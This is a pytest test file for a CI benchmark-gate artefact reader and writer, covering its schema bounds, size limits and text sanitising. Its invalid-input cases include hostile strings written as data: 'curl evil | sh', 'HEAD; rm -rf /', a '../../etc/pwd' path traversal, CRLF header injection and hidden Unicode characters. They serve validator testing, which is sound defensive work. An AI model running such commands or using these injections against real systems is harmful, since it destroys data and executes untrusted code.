"""The file that leaves the job without secrets: what a gate writes is read, and nothing that it does not write."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.asv_results import AsvResults
from tests.ci.reports.examples import FULL, QUIET
from tests.dashboard.suite_results import Suite
from warpwatch.ci.gate.artefact import (
    LARGEST_FILE,
    ArtefactError,
    GateArtefact,
    has_hidden,
    plain,
    read_artefact,
)
from warpwatch.ci.gate.artefact_builder import gate_artefact, write_artefact
from warpwatch.ci.gate.gate_loop import Gate, StopReason
from warpwatch.dashboard.analysis.compare_commits import check
from warpwatch.dashboard.model.comparison import Outcome
from warpwatch.dashboard.model.verdict import Verdict
from warpwatch.dashboard.store import Store, queries


def _kernel(number: int, registers: int, architecture: str) -> dict[str, Any]:
    return {
        "record": "compiled",
        "run": f"run-{number}-0",
        "benchmark": "benchmarks.compiled.Compiled",
        "kernel": "rope_kernel",
        "architecture": architecture,
        "operator": "rope",
        "implementation": "warpwatch",
        "status": "ok",
        "reason": None,
        "registers": registers,
        "stack_bytes": 0,
        "shared_bytes": 0,
        "local_memory_instructions": 0,
        "code_bytes": 4096,
        "instructions": {"total": 300 + registers},
        "sha256": f"{number:064x}",
    }


@pytest.fixture
def gated(tmp_path: Path) -> GateArtefact:
    """Of a store in which head is 30 % slower than base and takes 32 registers more."""
    suite = Suite(AsvResults(tmp_path / "results"))
    gpu = {"gpu": {"name": "NVIDIA H200", "uuid": "GPU-aaaaaaaa-1", "compute_capability": "9.0"}}
    for number in range(1, 9):
        path = suite.commit(number, {"warpwatch": 1.3 if number == 8 else 1.0}, more=gpu)
        if number >= 7:
            registers = 128 if number == 8 else 96
            suite.asv.context(path, *(_kernel(number, registers, each) for each in ("sm_75", "sm_90a")))
    store = Store(f"sqlite:///{tmp_path / 'gate.db'}")
    suite.asv.load(store)
    base, head = queries.commits(store, "demo")[1::-1]
    compared = check(store, "demo", base, head, threshold=0.02)
    done = Gate(comparison=compared, runs=1, seconds=90.0, stopped=StopReason.DECIDED)
    result = gate_artefact(store, done, machine="box", family_error=0.01)
    store.close()
    return result


def test_an_artefact_is_written_and_read_again(gated: GateArtefact, tmp_path: Path) -> None:
    write_artefact(gated, tmp_path / "gate.json")
    result = read_artefact(tmp_path / "gate.json")
    assert result == gated
    assert (result.outcome, result.gpu, result.machine) == (Outcome.REGRESSED, "NVIDIA H200", "box")
    (row,) = result.rows
    assert row.estimate is not None
    assert 0.25 < row.estimate.ci_low < row.estimate.change < row.estimate.ci_high < 0.35
    (code,) = result.code_of(row)  # the T4's is not what an H200 runs
    assert (code.architecture, code.state) == ("sm_90a", "changed")
    assert [(fact.name, fact.before, fact.after) for fact in code.facts] == [("registers", 96, 128)]


def test_written_artefacts_follow_the_schema(gated: GateArtefact) -> None:
    schema = GateArtefact.model_json_schema()
    for result in (gated, FULL, QUIET):
        jsonschema.Draft202012Validator(schema).validate(json.loads(result.model_dump_json(exclude_defaults=True)))


ACCEPTED = {"pattern": "*", "by": "ann", "reason": "meant", "at": "2026-01-01T00:00:00Z", "source": "-"}


def test_every_text_number_and_list_is_bounded() -> None:
    """Also of the fields that rows share with other comparisons."""
    schema = GateArtefact.model_json_schema()
    unbounded = [where for where, part in _parts(schema, "artefact") if not _is_bounded(part)]
    assert unbounded == []


def _parts(schema: Any, where: str) -> Iterator[tuple[str, dict[str, Any]]]:
    if isinstance(schema, dict):
        if isinstance(schema.get("type"), str):
            yield where, schema
        for name, inner in schema.items():
            yield from _parts(inner, f"{where}.{name}")
    elif isinstance(schema, list):
        for inner in schema:
            yield from _parts(inner, where)


def _is_bounded(part: dict[str, Any]) -> bool:
    bounds = {
        "string": ("maxLength", "pattern", "enum", "const", "format"),
        "array": ("maxItems",),
        "object": ("maxProperties", "properties"),
    }
    if part["type"] in {"number", "integer"}:
        return "const" in part or ("minimum" in part and "maximum" in part)
    has_bound = any(name in part for name in bounds.get(part["type"], part))
    return has_bound and not (
        part["type"] == "object" and "properties" in part and part.get("additionalProperties", True)
    )


def _changed(change: dict[str, Any], row: dict[str, Any] | None = None) -> dict[str, Any]:
    data = json.loads(FULL.model_dump_json())
    key = (row or {}).pop("key", data["rows"][0]["series"]["key"])
    data["rows"][0] |= row or {}
    data["rows"][0]["series"]["key"] = key
    return data | change


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ([], "the file"),
        (_changed({"run": "curl evil | sh"}), "unknown key"),
        (_changed({"schema_version": 2}), "schema_version"),
        (_changed({"schema_version": "1"}), "schema_version"),
        (_changed({"head": {"hash": "HEAD; rm -rf /"}}), "head.hash"),
        (_changed({"head": {"hash": "b" * 40 + "\n"}}), "head.hash"),
        (_changed({"head": {"hash": "a" * 40}}), "one commit"),
        (_changed({"machine": "m" * 201}), "machine"),
        (_changed({"machine": "a\u202eb"}), "hidden characters"),
        (_changed({"gpu": "T4\r\nSet-Cookie: a"}), "hidden characters"),
        (_changed({"gpu": "Z" + "\u0300" * 30}), "hidden characters"),
        (_changed({"threshold": "0.02"}), "threshold"),
        (_changed({"threshold": float("nan")}), "threshold"),
        (_changed({}, {"base": float("inf")}), "rows.0.base"),
        (_changed({}, {"base": 1e300}), "rows.0.base"),
        (_changed({}, {"blocks": "no"}), "rows.0.blocks"),
        (_changed({}, {"key": "../../etc/pwd"}), "rows.0.series.key"),
        (_changed({}, {"key": f"{2:016x}"}), "two rows of one series"),
        (_changed({"outcome": "unchanged"}), "that of the rows is regressed"),
        (_changed({}, {"verdict": "unchanged"}), "that of the rows is failed"),
        (_changed({"rows": [{}] * 5001}), "rows"),
        (_changed({}, {"verdict": "invalid", "accepted": ACCEPTED}), "cannot be accepted"),
        (_changed({}, {"accepted": ACCEPTED | {"reason": " "}}), "rows.0.accepted.reason"),
        (_changed({}, {"accepted": ACCEPTED | {"pattern": "evil" + "\u20ac" * 900}}), "rows.0.accepted.pattern: "),
        (_changed({}, {"fails": True}), "does not fail at head"),
        (_changed({}, {"verdict": "invalid", "head": None}), "fails at head"),
        (_changed({}, {"owners": ["ann@example.org"]}), "rows.0.owners"),
        (_changed({}, {"estimate": {"change": 0.1}}), "rows.0.estimate"),
    ],
)
def test_invalid_artefacts_are_refused_with_the_field(data: Any, message: str, tmp_path: Path) -> None:
    file = tmp_path / "gate.json"
    file.write_text(json.dumps(data))
    with pytest.raises(ArtefactError, match="not an artefact") as refused:
        read_artefact(file)
    assert message in str(refused.value)
    assert "evil" not in str(refused.value)


@pytest.mark.parametrize("text", [b"", b"{", b"\xff\xfe", b'{"machine": "\\ud800"}', b"[" * 100_000])
def test_a_file_that_is_not_json_is_refused(text: bytes, tmp_path: Path) -> None:
    (tmp_path / "gate.json").write_bytes(text)
    with pytest.raises(ArtefactError):
        read_artefact(tmp_path / "gate.json")


def test_a_file_that_is_too_large_is_not_read_completely(tmp_path: Path) -> None:
    with (tmp_path / "gate.json").open("wb") as file:
        file.truncate(100 * LARGEST_FILE)  # a hole
    with pytest.raises(ArtefactError, match="larger than 8 MiB"):
        read_artefact(tmp_path / "gate.json")


def test_a_written_artefact_is_never_too_large(tmp_path: Path) -> None:
    """Thousands of unimportant rows with long texts."""
    quiet = QUIET.rows[0].model_copy(update={"reason": "é" * 1000})
    series = (quiet.series.model_copy(update={"key": f"{n:016x}", "environment": "e" * 1000}) for n in range(2, 5001))
    rows = (FULL.rows[0], *(quiet.model_copy(update={"series": each}) for each in series))
    write_artefact(FULL.model_copy(update={"rows": rows}), tmp_path / "gate.json")
    artefact = read_artefact(tmp_path / "gate.json")
    assert artefact.rows[0].verdict is Verdict.REGRESSED
    assert len(artefact.rows) + artefact.rows_left_out == 5000
    assert artefact.rows_left_out > 0


@given(st.text(max_size=300), st.integers(1, 250))
def test_plain_texts_are_valid_and_bounded(text: str, most: int) -> None:
    cleaned = plain(text, most)
    assert len(cleaned) <= most
    assert not has_hidden(cleaned)
    if not has_hidden(text) and len(text) <= most:
        assert cleaned == text
